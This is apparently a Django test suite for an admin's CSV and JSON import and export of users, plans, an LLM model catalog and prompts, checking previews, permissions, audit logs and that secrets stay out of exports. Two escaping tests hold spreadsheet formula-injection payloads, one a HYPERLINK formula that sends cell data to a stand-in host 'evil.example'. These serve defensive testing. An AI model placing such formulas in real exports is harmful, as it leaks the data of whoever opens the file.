"""Bulk import and export in the admin (django-import-export): users, plans, the model catalog and
prompts. Every import is previewed (a dry run) and can be confirmed only when no row has an error;
exports never carry a password or an API key; the pages are unfold's and need permissions."""

import csv
import io
import json
import os

import pytest
from auditlog.models import LogEntry
from django.contrib.auth.models import Permission
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from import_export.results import RowResult
from import_export.tmp_storages import TempFolderStorage
from unfold.contrib.import_export.forms import ExportForm, ImportForm

from accounts.models import Plan, User, UserSettings
from conversations.models import LLMModel, Prompt
from tests.accounts.factories import UserFactory
from tests.conversations.factories import LLMModelFactory, PromptFactory

pytestmark = pytest.mark.django_db

USERS = "/admin/accounts/user/"
PLANS = "/admin/accounts/plan/"
MODELS = "/admin/conversations/llmmodel/"
PROMPTS = "/admin/conversations/prompt/"
CSV_FORMAT, JSON_FORMAT = "0", "1"


@pytest.fixture
def admin_user(db):
    return UserFactory(email="root@example.com", is_staff=True, is_superuser=True)


@pytest.fixture
def admin_client(client, admin_user):
    client.force_login(admin_user)
    return client


def export(client, changelist: str, file_format: str = CSV_FORMAT) -> str:
    response = client.post(f"{changelist}export/", {"format": file_format, "resource": "0"})
    assert response.status_code == 200, response.status_code
    assert response["Content-Disposition"].startswith("attachment;")
    return response.content.decode()


def csv_rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def csv_text(header: list[str], *rows: list) -> str:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue()


def preview(client, changelist: str, content: str, file_format: str = CSV_FORMAT, name: str = "data.csv"):
    """Step one: upload the file; the answer is the dry run's preview."""
    upload = SimpleUploadedFile(name, content.encode(), content_type="text/csv")
    response = client.post(f"{changelist}import/", {"format": file_format, "resource": "0", "import_file": upload})
    assert response.status_code == 200, response.status_code
    return response


def confirm(client, changelist: str, preview_response):
    """Step two: the confirm button the preview shows (only when no row has an error)."""
    form = preview_response.context["confirm_form"]
    fields = ("import_file_name", "original_file_name", "format", "resource")
    return client.post(f"{changelist}process_import/", {name: form.initial[name] for name in fields})


def row_types(response) -> list[str]:
    return [row.import_type for row in response.context["result"].rows]


def invalid_rows(response) -> dict[int, dict[str, list[str]]]:
    """Row number -> field -> messages, as the preview lists them."""
    return {
        row.number: {field: [str(m) for m in messages] for field, messages in row.error_dict.items()}
        for row in response.context["result"].invalid_rows
    }


def audit_entries() -> int:
    return LogEntry.objects.count()


# --- the pages --------------------------------------------------------------------------------


@pytest.mark.parametrize("changelist", [USERS, PLANS, MODELS, PROMPTS])
def test_the_import_and_export_pages_use_unfolds_forms(admin_client, changelist):
    listing = admin_client.get(changelist)
    import_page = admin_client.get(f"{changelist}import/")
    export_page = admin_client.get(f"{changelist}export/")

    assert listing.status_code == 200
    assert f'href="{changelist}import/"' in listing.content.decode()
    assert f'href="{changelist}export/' in listing.content.decode()
    assert import_page.status_code == 200 and isinstance(import_page.context["form"], ImportForm)
    assert export_page.status_code == 200 and isinstance(export_page.context["form"], ExportForm)
    formats = [label for _, label in export_page.context["form"].fields["format"].choices if _]
    assert formats == ["csv", "json"]


def _staff(client, *codenames: str, email: str = "ops@example.com"):
    staff = UserFactory(email=email, is_staff=True)
    staff.user_permissions.add(*Permission.objects.filter(codename__in=codenames))
    client.force_login(User.objects.get(pk=staff.pk))
    return client


@pytest.mark.parametrize(
    ("changelist", "model"), [(USERS, "user"), (PLANS, "plan"), (MODELS, "llmmodel"), (PROMPTS, "prompt")]
)
def test_staff_without_add_and_change_permissions_get_403(client, changelist, model):
    staff = _staff(client, f"view_{model}")

    listing = staff.get(changelist)
    assert listing.status_code == 200
    assert f"{changelist}import/" not in listing.content.decode()
    assert staff.get(f"{changelist}import/").status_code == 403
    assert staff.post(f"{changelist}process_import/", {"import_file_name": "x"}).status_code == 403
    assert staff.get(f"{changelist}export/").status_code == 403
    assert staff.post(f"{changelist}export/", {"format": CSV_FORMAT}).status_code == 403


def test_change_permission_alone_exports_but_does_not_import(client):
    staff = _staff(client, "view_plan", "change_plan")
    assert staff.get(f"{PLANS}import/").status_code == 403
    assert "slug,name" in export(staff, PLANS)

    staff = _staff(client, "view_plan", "change_plan", "add_plan", email="lead@example.com")
    assert staff.get(f"{PLANS}import/").status_code == 200


# --- users --------------------------------------------------------------------------------------

USER_COLUMNS = ["email", "display_name", "is_active", "is_staff", "plan"]


def test_the_user_export_has_the_columns_and_no_password(admin_client, user, outsider):
    UserSettings.objects.filter(user=outsider).update(plan=Plan.objects.get(slug="plus"))

    text = export(admin_client, USERS)

    assert text.splitlines()[0] == ",".join(USER_COLUMNS)
    rows = {row["email"]: row for row in csv_rows(text)}
    assert rows["alice@example.com"] == {
        "email": "alice@example.com",
        "display_name": "Alice",
        "is_active": "1",
        "is_staff": "0",
        "plan": "free",
    }
    assert rows["charlie@example.com"]["plan"] == "plus"
    assert rows["root@example.com"]["is_staff"] == "1"
    for hashed in User.objects.values_list("password", flat=True):
        assert hashed not in text
    assert "md5$" not in text and "password" not in text and "superuser" not in text


def test_a_name_a_spreadsheet_would_run_as_a_formula_is_escaped_in_the_csv(admin_client, user):
    User.objects.filter(pk=user.pk).update(display_name='=HYPERLINK("http://evil.example","x")')

    rows = {row["email"]: row for row in csv_rows(export(admin_client, USERS))}

    assert not rows["alice@example.com"]["display_name"].startswith("=")
    assert "HYPERLINK" in rows["alice@example.com"]["display_name"]


FORMULA = 'HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize("start", ["=", "==", "+", "-", "@", "\t=", "\r=", "'="])
def test_every_cell_a_spreadsheet_would_run_is_quoted_and_reads_back_the_same(admin_client, user, start):
    # Issue 18, hole 10: only one leading "=" was removed; "==", "+", "-", "@" reached the sheet.
    name = start + FORMULA
    User.objects.filter(pk=user.pk).update(display_name=name)

    text = export(admin_client, USERS)
    cell = {row["email"]: row for row in csv_rows(text)}["alice@example.com"]["display_name"]
    as_json = json.loads(export(admin_client, USERS, JSON_FORMAT))
    again = preview(admin_client, USERS, text)

    assert cell == "'" + name
    assert next(row for row in as_json if row["email"] == "alice@example.com")["display_name"] == name
    # The quote is the file's, not the data's: the export imported again changes nothing (but a
    # carriage return, which the library's upload storage reads back as a newline).
    if "\r" not in start:
        assert set(row_types(again)) == {RowResult.IMPORT_TYPE_SKIP}


def test_the_user_export_as_json(admin_client, user):
    rows = json.loads(export(admin_client, USERS, JSON_FORMAT))
    assert {"email": "alice@example.com", "display_name": "Alice", "is_active": "1", "is_staff": "0"}.items() <= next(
        row for row in rows if row["email"] == "alice@example.com"
    ).items()
    assert all(set(row) == set(USER_COLUMNS) for row in rows)


def test_the_user_export_costs_the_same_queries_whatever_the_number_of_users(admin_client, user):
    with CaptureQueriesContext(connection) as few:
        export(admin_client, USERS)
    for n in range(15):
        UserFactory(email=f"bulk{n}@example.com")

    with CaptureQueriesContext(connection) as many:
        text = export(admin_client, USERS)

    assert "bulk14@example.com" in text
    assert len(many) == len(few)


def test_a_user_file_with_bad_rows_is_previewed_and_cannot_be_imported(admin_client, user):
    before = audit_entries()
    content = csv_text(
        USER_COLUMNS,
        ["new@example.com", "Newcomer", "1", "0", "plus"],
        ["ALICE@example.com", "Alice Liddell", "", "", "pro"],
        ["bob@example.com", "Bob", "1", "0", "platinum"],
        ["not-an-email", "Nobody", "1", "0", "free"],
        ["carol@example.com", "Carol", "maybe", "0", ""],
    )

    response = preview(admin_client, USERS, content)

    assert row_types(response) == [
        RowResult.IMPORT_TYPE_NEW,
        RowResult.IMPORT_TYPE_UPDATE,
        RowResult.IMPORT_TYPE_INVALID,
        RowResult.IMPORT_TYPE_INVALID,
        RowResult.IMPORT_TYPE_INVALID,
    ]
    errors = invalid_rows(response)
    assert set(errors) == {3, 4, 5}
    assert errors[3] == {"plan": ["Unknown plan 'platinum' (the plans are: free, plus, pro)."]}
    assert errors[4] == {"email": ["Enter a valid email address."]}
    assert errors[5] == {"is_active": ["Enter 1 or 0 (true or false), not 'maybe'."]}
    body = response.content.decode()
    assert "Unknown plan" in body and "Enter a valid email address." in body
    # No confirm button, and the dry run left nothing behind (nor in the audit trail).
    assert "confirm_form" not in response.context
    assert "process_import" not in body
    assert not User.objects.filter(email="new@example.com").exists()
    assert User.objects.get(pk=user.pk).display_name == "Alice"
    assert audit_entries() == before


def test_a_good_user_file_is_previewed_then_imported_on_confirmation(admin_client, admin_user, user):
    content = csv_text(
        [*USER_COLUMNS, "password", "is_superuser"],
        ["New@Example.com", "Newcomer", "1", "1", "plus", "Hunter-2-Hunter", "1"],
        ["ALICE@example.com", "Alice Liddell", "", "", "pro", "Hunter-2-Hunter", "1"],
        ["plain@example.com", "", "", "", "", "", ""],
    )

    response = preview(admin_client, USERS, content)

    assert row_types(response) == [RowResult.IMPORT_TYPE_NEW, RowResult.IMPORT_TYPE_UPDATE, "new"]
    assert not response.context["result"].has_validation_errors()
    body = response.content.decode()
    assert "process_import" in body and "Liddell" in body
    preview_rows = [[str(cell) for cell in row.diff] for row in response.context["result"].rows]
    # The plan column shows what changes (before and after), as the other columns do.
    assert [row[-1] for row in preview_rows] == [
        '<ins style="background:#e6ffe6;">plus</ins>',
        '<del style="background:#ffe6e6;">free</del><ins style="background:#e6ffe6;">pro</ins>',
        '<ins style="background:#e6ffe6;">free</ins>',
    ]
    assert not User.objects.filter(email="new@example.com").exists()  # a preview, nothing written

    done = confirm(admin_client, USERS, response)

    assert done.status_code == 302 and done["Location"] == USERS
    newcomer = User.objects.get(email="new@example.com")
    assert (newcomer.display_name, newcomer.is_active, newcomer.is_staff) == ("Newcomer", True, True)
    # Never a password from the file, never a superuser: they use "Forgot password?".
    assert not newcomer.has_usable_password() and not newcomer.check_password("Hunter-2-Hunter")
    assert newcomer.is_superuser is False
    assert UserSettings.objects.get(user=newcomer).plan.slug == "plus"
    plain = User.objects.get(email="plain@example.com")
    assert (plain.is_active, plain.is_staff, plain.display_name) == (True, False, "")
    assert UserSettings.objects.get(user=plain).plan.slug == "free"  # the default plan
    alice = User.objects.get(pk=user.pk)
    assert (alice.display_name, alice.is_active, alice.is_staff, alice.is_superuser) == (
        "Alice Liddell",
        True,
        False,
        False,
    )
    assert alice.check_password("Correct-Horse-9")
    assert UserSettings.objects.get(user=alice).plan.slug == "pro"
    # In the audit trail with the staff member who imported.
    entry = LogEntry.objects.get_for_object(newcomer).get(action=LogEntry.Action.CREATE)
    assert entry.actor == admin_user and "password" not in entry.changes_dict
    settings_entry = LogEntry.objects.get_for_object(UserSettings.objects.get(user=alice)).latest("timestamp")
    assert settings_entry.actor == admin_user


def test_staff_cannot_remove_their_own_access_by_import(admin_client, admin_user):
    response = preview(admin_client, USERS, csv_text(USER_COLUMNS, ["root@example.com", "", "1", "0", ""]))

    assert invalid_rows(response) == {
        1: {
            "is_active": [
                "You cannot deactivate your own account or remove your own staff status: ask another staff member."
            ]
        }
    }
    assert "confirm_form" not in response.context


def test_a_confirmed_import_whose_rows_went_bad_imports_nothing(admin_client, user):
    """The preview refuses a file with a bad row; if the data changes between the preview and the
    confirmation (or a confirm is replayed), the import is rolled back whole."""
    content = csv_text(
        USER_COLUMNS, ["new@example.com", "", "1", "0", "plus"], ["alice@example.com", "", "1", "0", "gone"]
    )
    storage = TempFolderStorage(encoding="utf-8-sig", read_mode="r")
    storage.save(content.encode())

    response = admin_client.post(
        f"{USERS}process_import/",
        {"import_file_name": os.path.basename(storage.name), "original_file_name": "x.csv", "format": CSV_FORMAT},
    )

    assert response.status_code == 302 and response["Location"] == f"{USERS}import/"
    assert not User.objects.filter(email="new@example.com").exists()
    messages = [str(m) for m in response.wsgi_request._messages]
    assert any(m.startswith("Nothing was imported") for m in messages)


def test_users_round_trip_unchanged(admin_client, user, outsider):
    text = export(admin_client, USERS)
    stamps = dict(User.objects.values_list("email", "updated_at"))
    before = audit_entries()

    response = preview(admin_client, USERS, text)

    assert set(row_types(response)) == {RowResult.IMPORT_TYPE_SKIP}
    assert confirm(admin_client, USERS, response).status_code == 302
    assert dict(User.objects.values_list("email", "updated_at")) == stamps
    assert audit_entries() == before


# --- plans --------------------------------------------------------------------------------------


def test_plans_round_trip_unchanged_and_a_change_is_imported(admin_client, admin_user):
    text = export(admin_client, PLANS)
    rows = csv_rows(text)
    assert list(rows[0]) == [
        "slug",
        "name",
        "daily_message_limit",
        "max_concurrent_generations",
        "storage_limit_bytes",
        "selectable_by_user",
        "order",
    ]
    before = audit_entries()

    unchanged = preview(admin_client, PLANS, text)
    assert set(row_types(unchanged)) == {RowResult.IMPORT_TYPE_SKIP}
    confirm(admin_client, PLANS, unchanged)
    assert audit_entries() == before

    free = next(row for row in rows if row["slug"] == "free")
    free["daily_message_limit"] = "123"
    bad = {**free, "slug": "student", "max_concurrent_generations": "-1"}
    changed = preview(admin_client, PLANS, csv_text(list(free), list(free.values()), list(bad.values())))
    assert row_types(changed) == [RowResult.IMPORT_TYPE_UPDATE, RowResult.IMPORT_TYPE_INVALID]
    assert "max_concurrent_generations" in invalid_rows(changed)[2]

    fixed = preview(admin_client, PLANS, csv_text(list(free), list(free.values())))
    confirm(admin_client, PLANS, fixed)
    plan = Plan.objects.get(slug="free")
    assert plan.daily_message_limit == 123
    entry = LogEntry.objects.get_for_object(plan).latest("timestamp")
    assert entry.actor == admin_user and entry.changes_dict["daily_message_limit"][1] == "123"


def test_plans_round_trip_as_json(admin_client):
    text = export(admin_client, PLANS, JSON_FORMAT)
    response = preview(admin_client, PLANS, text, JSON_FORMAT, name="plans.json")
    assert set(row_types(response)) == {RowResult.IMPORT_TYPE_SKIP}


# --- the model catalog --------------------------------------------------------------------------


def test_models_export_names_the_key_variable_never_the_key(admin_client, monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", "sk-live-do-not-export-0123456789")
    model = LLMModelFactory(slug="gpt-x", api_key_env="OPENAI_API_KEY")
    model.plans.set(Plan.objects.filter(slug__in=["plus", "pro"]))

    text = export(admin_client, MODELS)

    row = next(row for row in csv_rows(text) if row["slug"] == "gpt-x")
    assert row["api_key_env"] == "OPENAI_API_KEY"
    assert sorted(row["plans"].split(",")) == ["plus", "pro"]
    assert "sk-live" not in text and "created_at" not in row


def test_models_round_trip_unchanged_and_bad_rows_are_refused(admin_client):
    model = LLMModelFactory(slug="gpt-x", api_key_env="OPENAI_API_KEY")
    model.plans.set(Plan.objects.filter(slug="plus"))
    text = export(admin_client, MODELS)
    stamps = dict(LLMModel.objects.values_list("slug", "updated_at"))
    before = audit_entries()

    unchanged = preview(admin_client, MODELS, text)
    assert set(row_types(unchanged)) == {RowResult.IMPORT_TYPE_SKIP}
    confirm(admin_client, MODELS, unchanged)
    assert dict(LLMModel.objects.values_list("slug", "updated_at")) == stamps
    assert audit_entries() == before

    row = next(row for row in csv_rows(text) if row["slug"] == "gpt-x")
    pasted_key = {**row, "api_key_env": "sk-abc123-not-a-variable-name"}
    unknown_plan = {**row, "slug": "gpt-y", "plans": "plus,platinum"}
    bad_flag = {**row, "slug": "gpt-z", "enabled": "yes please"}
    bad = preview(
        admin_client,
        MODELS,
        csv_text(list(row), list(pasted_key.values()), list(unknown_plan.values()), list(bad_flag.values())),
    )
    errors = invalid_rows(bad)
    assert errors[1] == {
        "api_key_env": [
            "Give the NAME of the environment variable that holds the API key (letters, digits and _), never the "
            "key itself."
        ]
    }
    assert errors[2] == {"plans": ["Unknown plan(s): platinum."]}
    assert list(errors[3]) == ["enabled"]
    assert "confirm_form" not in bad.context
    assert not LLMModel.objects.filter(slug__in=["gpt-y", "gpt-z"]).exists()

    disabled = {**row, "enabled": "0", "plans": "pro"}
    done = preview(admin_client, MODELS, csv_text(list(row), list(disabled.values())))
    assert row_types(done) == [RowResult.IMPORT_TYPE_UPDATE]
    confirm(admin_client, MODELS, done)
    model.refresh_from_db()
    assert model.enabled is False and list(model.plans.values_list("slug", flat=True)) == ["pro"]


# --- prompts ------------------------------------------------------------------------------------


def test_prompts_round_trip_unchanged(admin_client):
    PromptFactory(title="Plan a trip", category="travel", order=2)
    PromptFactory(title="Explain a concept", enabled=False)
    text = export(admin_client, PROMPTS)
    assert text.splitlines()[0] == "id,title,text,category,language,order,enabled"
    before = audit_entries()

    response = preview(admin_client, PROMPTS, text)

    assert set(row_types(response)) == {RowResult.IMPORT_TYPE_SKIP}
    confirm(admin_client, PROMPTS, response)
    assert audit_entries() == before


def test_prompts_are_matched_by_id_or_else_by_title(admin_client):
    trip = PromptFactory(title="Plan a trip", text="Plan a trip to ", order=2)
    twin_a = PromptFactory(title="Twin")
    PromptFactory(title="Twin")
    header = ["id", "title", "text", "category", "order", "enabled"]

    response = preview(
        admin_client,
        PROMPTS,
        csv_text(
            header,
            ["", "Plan a trip", "Plan a long trip to ", "travel", "2", "1"],  # by title
            [str(twin_a.pk), "Twin", "The first twin", "", "0", "1"],  # by id
            ["", "Brand new", "Something new", "", "9", "1"],  # a new prompt
            ["", "Twin", "Which one?", "", "0", "1"],  # ambiguous
            ["999999", "Ghost", "No such id", "", "0", "1"],  # unknown id
        ),
    )

    assert row_types(response) == ["update", "update", "new", "invalid", "invalid"]
    errors = invalid_rows(response)
    assert "title" in errors[4] and "id" in errors[5]

    good = preview(
        admin_client,
        PROMPTS,
        csv_text(
            header,
            ["", "Plan a trip", "Plan a long trip to ", "travel", "2", "1"],
            ["", "Brand new", "Something new", "", "9", "1"],
        ),
    )
    confirm(admin_client, PROMPTS, good)
    trip.refresh_from_db()
    assert trip.text == "Plan a long trip to " and trip.category == "travel"
    assert Prompt.objects.filter(title="Brand new", order=9).exists()


def test_models_capabilities_round_trip_and_an_unknown_one_is_refused(admin_client):
    LLMModelFactory(slug="seer", capabilities=["vision"])
    text = export(admin_client, MODELS)
    row = next(row for row in csv_rows(text) if row["slug"] == "seer")
    assert row["capabilities"] == "vision"

    added = {**row, "slug": "seer-2"}
    unknown = {**row, "slug": "seer-3", "capabilities": "vision,telepathy"}
    response = preview(admin_client, MODELS, csv_text(list(row), list(added.values()), list(unknown.values())))
    errors = invalid_rows(response)
    assert len(errors) == 1 and "telepathy" in " ".join(next(iter(errors.values()))["capabilities"])
    good = preview(admin_client, MODELS, csv_text(list(row), list(added.values())))
    confirm(admin_client, MODELS, good)
    assert LLMModel.objects.get(slug="seer-2").capabilities == ["vision"]
